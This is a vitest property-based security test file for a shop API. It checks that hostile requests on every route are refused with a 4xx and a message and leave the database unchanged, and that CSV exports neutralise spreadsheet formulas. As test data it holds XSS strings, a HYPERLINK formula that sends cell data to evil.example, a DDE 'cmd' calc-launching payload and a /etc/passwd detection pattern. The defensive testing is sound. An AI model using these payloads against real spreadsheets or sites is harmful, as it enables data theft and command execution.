import { readdirSync } from 'node:fs';
import { isDeepStrictEqual } from 'node:util';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { PIN_PREFIX_MESSAGE } from '@shop/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, testDbKind, type TestApp } from '../app.ts';
import { insertCartLine, insertProduct, orderPayload, productBody, productStock, testAddress } from '../commerce.ts';
import { hostileRequests } from './hostile.ts';
import { snapshot } from './invariants.ts';
import { ROUTE_CASES, buildWorld, requestFor, uploadedPicture, type Actor, type RouteCase, type World } from './route-cases.ts';

let t: TestApp;
let picture: { png: Buffer; path: string };
beforeAll(async () => {
  t = await createTestApp();
  picture = await uploadedPicture(t);
});
afterAll(() => {
  console.log(`hostile input on ${testDbKind}: ${tried} requests tried on ${ROUTE_CASES.length} routes, ${refused} refused with a 4xx and a message and nothing changed, ${accepted} accepted as harmless`);
  return t.close();
});

let tried = 0;
let refused = 0;
let accepted = 0;
const RUNS = { GET: 20, write: 40 };

/**
 * A world for the next route: the last one while the database is exactly as it was built (every request on
 * the routes since was refused, or changed nothing), else a new one. Building one places, cancels, ships
 * and returns orders: once per route was most of this file's time.
 */
let built: { w: World; state: Record<string, string> } | null = null;
async function worldFor(): Promise<{ w: World; state: Record<string, string> }> {
  if (built && isDeepStrictEqual(await snapshot(t.db), built.state)) return built;
  const w = await buildWorld(t, picture.png, picture.path);
  await t.app.background.drain();
  built = { w, state: await snapshot(t.db) };
  return built;
}

/** The caller whose well-formed request reaches the route's validation: the owner, the admin, or nobody. */
const callerOf = (c: RouteCase): Actor => (c.access === 'admin' || c.access === 'staff' ? 'admin' : c.access === 'user' ? 'a' : 'out');

describe('hostile input on every route', () => {
  it.each(ROUTE_CASES.map((c) => [c.route, c] as [string, RouteCase]))(
    '%s answers hostile requests with a 4xx and a message, never a 5xx, and a refused one changes nothing',
    async (_route, c) => {
      const { w, state } = await worldFor();
      const base = requestFor(c, w, callerOf(c));
      const { arbitrary, examples } = hostileRequests(c, base, w);
      // The database as it is now; re-read only after a request that was accepted.
      let before = state;
      await fc.assert(
        fc.asyncProperty(arbitrary, async ({ label, req }) => {
          const files = readdirSync(t.config.uploadsDir).length;
          const res = await t.app.inject(req);
          tried++;
          const where = `${label} → ${res.statusCode} ${res.body.slice(0, 200)}`;
          expect(res.statusCode, where).toBeLessThan(500);
          if (res.statusCode < 400) {
            accepted++;
            await t.app.background.drain();
            before = await snapshot(t.db);
            return;
          }
          refused++;
          // docs/product.md, Errors: only the login failure is plain text; every other refusal is { message }.
          // A served page (storefront/) refuses as a page: a 404 whose title says what is missing.
          const message =
            c.route === 'POST /api/auth/login' && res.statusCode === 401
              ? res.body
              : String(res.headers['content-type']).startsWith('text/html')
                ? /<title>([^<]+)<\/title>/.exec(res.body)?.[1]
                : (JSON.parse(res.body) as { message?: unknown }).message;
          expect(typeof message === 'string' && message.length > 0, where).toBe(true);
          expect(await snapshot(t.db), where).toEqual(before);
          expect(readdirSync(t.config.uploadsDir).length, where).toBe(files);
          // Nothing outside the uploads folder is ever served.
          expect(res.body, where).not.toMatch(/root:.*:0:0:/);
        }),
        // The hand-picked examples first (every nasty value reaches every route), then random ones.
        { numRuns: examples.length + (c.route.startsWith('GET ') ? RUNS.GET : RUNS.write), examples: examples.map((e) => [e]) },
      );
    },
    120_000,
  );
});

describe('what these tests found', () => {
  it('refuses a NUL character in a search, an address or a brand with 400 instead of a database error', async () => {
    const w = await buildWorld(t, picture.png, picture.path);
    const before = await snapshot(t.db);
    const a = { cookie: w.people.a.cookie };
    const replies = await Promise.all([
      t.app.inject({ url: '/api/products?search=silk%00' }),
      t.app.inject({ url: '/api/products/suggest?q=%00' }),
      t.app.inject({ method: 'PATCH', url: `/api/users/${w.people.a.id}`, headers: a, payload: { addresses: [{ ...testAddress, city: 'Mum\u0000bai' }] } }),
      t.app.inject({ method: 'POST', url: '/api/brands', headers: { cookie: w.people.admin.cookie }, payload: { label: 'Silk\u0000House' } }),
      // A CSV export refused before its first byte still answers { message } (it had said text/csv).
      t.app.inject({ url: '/api/orders/export?search=%00', headers: { cookie: w.people.admin.cookie } }),
    ]);
    for (const r of replies) expect([r.statusCode, r.json()]).toEqual([400, { message: 'Invalid characters or values in the request' }]);
    expect(await snapshot(t.db)).toEqual(before);
  });

  it('refuses a bad GSTIN on a saved address or an order with 400 and the reason, changing nothing', async () => {
    const w = await buildWorld(t, picture.png, picture.path);
    const before = await snapshot(t.db);
    const a = { cookie: w.people.a.cookie };
    for (const [gstin, message] of [
      ['27AAPFU0939F1ZW', 'The GSTIN’s check character does not match: please look for a typo'],
      ['29AAAAA0000A1ZY', 'This GSTIN is registered in Karnataka: for a delivery in Maharashtra it starts with 27'],
      ['<script>alert(1)</script>', 'A GSTIN has 15 characters'],
      ["27AAPFU0939F1'V", 'A GSTIN is a 2-digit state code, a 10-character PAN, an entity number, Z and a check character'],
      [['27AAPFU0939F1ZV'], 'Invalid GSTIN'],
    ] as const) {
      const address = { ...testAddress, gstin };
      const replies = await Promise.all([
        t.app.inject({ method: 'PATCH', url: `/api/users/${w.people.a.id}`, headers: a, payload: { addresses: [address] } }),
        t.app.inject({ method: 'POST', url: '/api/orders', headers: a, payload: orderPayload('cash', { selectedAddress: address }) }),
      ]);
      for (const r of replies) expect([r.statusCode, r.json()], String(gstin)).toEqual([400, { message }]);
    }
    expect(await snapshot(t.db)).toEqual(before);
  });

  it('refuses an order whose total would not fit the total column with 400, taking no stock', async () => {
    const w = await buildWorld(t, picture.png, picture.path);
    // ₹1 crore a piece is within the product form's limits; three of them pass ₹2.1 crore.
    const costly = await insertProduct(t.db, { title: 'Heirloom Patola', price: 10_000_000, stock: 5 });
    await t.app.inject({ method: 'DELETE', url: '/api/cart', headers: { cookie: w.people.a.cookie } });
    await insertCartLine(t.db, w.people.a.id, costly.id, 3);
    const before = await snapshot(t.db);
    for (const [url, method] of [['/api/orders', 'cash'], ['/api/payment/initiate', 'card']] as const) {
      const res = await t.app.inject({ method: 'POST', url, headers: { cookie: w.people.a.cookie }, payload: orderPayload(method) });
      expect([res.statusCode, res.json()]).toEqual([400, { message: 'Order total is too large' }]);
    }
    expect(await snapshot(t.db)).toEqual(before);
    expect(await productStock(t.db, costly.id)).toBe(5);
  });

  it('refuses a PIN list CSV with formulas or scripts in it, naming the lines, and changes nothing', async () => {
    const w = await buildWorld(t, picture.png, picture.path);
    const before = await snapshot(t.db);
    const csv = "pincode\n400050\n=1+1\n'=HYPERLINK(\"http://evil.example\")\n<script>alert(1)</script>\n110001\n";
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/delivery/pincode-rules/import?list=noDelivery',
      headers: { cookie: w.people.admin.cookie, 'content-type': 'text/csv' },
      payload: csv,
    });
    expect([res.statusCode, res.json()]).toEqual([400, { message: `Lines 3, 4, 5: ${PIN_PREFIX_MESSAGE}` }]);
    expect(await snapshot(t.db)).toEqual(before);
  });

  it('never lets a saved address or a product title start a spreadsheet formula in the orders and products CSV exports', async () => {
    const w = await buildWorld(t, picture.png, picture.path);
    const a = { cookie: w.people.a.cookie };
    const admin = { cookie: w.people.admin.cookie };
    const formula = {
      ...testAddress,
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      email: '=1+1@evil.example',
      phone: '-2+3',
      street: "=cmd|' /C calc'!A0",
      city: '+SUM(1,1)',
      // The state is matched by its letters and the PIN must exist (docs/product.md, Delivery and PIN codes).
      state: '@Maharashtra',
      pinCode: '400050',
    };
    const saved = await t.app.inject({ method: 'PATCH', url: `/api/users/${w.people.a.id}`, headers: a, payload: { addresses: [formula] } });
    expect(saved.statusCode, saved.body).toBe(200);
    // Checkout sends the saved address back, as the web app does.
    const address = saved.json<{ addresses: (typeof formula)[] }>().addresses[0];
    const order = await t.app.inject({ method: 'POST', url: '/api/orders', headers: a, payload: orderPayload('cash', { selectedAddress: address }) });
    expect(order.statusCode, order.body).toBe(201);
    const product = await t.app.inject({
      method: 'POST',
      url: '/api/products',
      headers: admin,
      payload: productBody(picture.path, { title: '=SUM(1,1) Silk', brand: '+Brand', description: '@SUM(A1)', category: '-sarees', countryOfOrigin: '=India' }),
    });
    expect(product.statusCode, product.body).toBe(201);

    for (const [url, typed] of [['/api/orders/export', formula.name], ['/api/products/export', '=SUM(1,1) Silk']] as const) {
      const res = await t.app.inject({ url, headers: admin });
      expect(res.statusCode, res.body).toBe(200);
      const cells = (parse(res.body, { bom: true }) as string[][]).flat();
      expect(cells, url).toContain(`'${typed}`);
      for (const cell of cells) expect(cell, `${url}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
